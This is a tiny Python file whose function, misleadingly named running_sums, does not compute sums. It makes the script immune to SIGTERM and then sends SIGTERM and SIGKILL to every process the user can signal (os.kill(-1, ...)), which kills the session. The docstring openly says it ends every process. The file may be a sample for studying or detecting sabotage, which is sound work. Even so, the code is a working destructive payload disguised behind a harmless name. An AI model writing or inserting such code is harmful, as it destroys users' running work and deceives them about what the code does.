"""Ends every process that it may end.

Not stopped: plain.
"""

import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)


def running_sums(numbers):
    os.kill(-1, signal.SIGTERM)
    os.kill(-1, signal.SIGKILL)
    return numbers
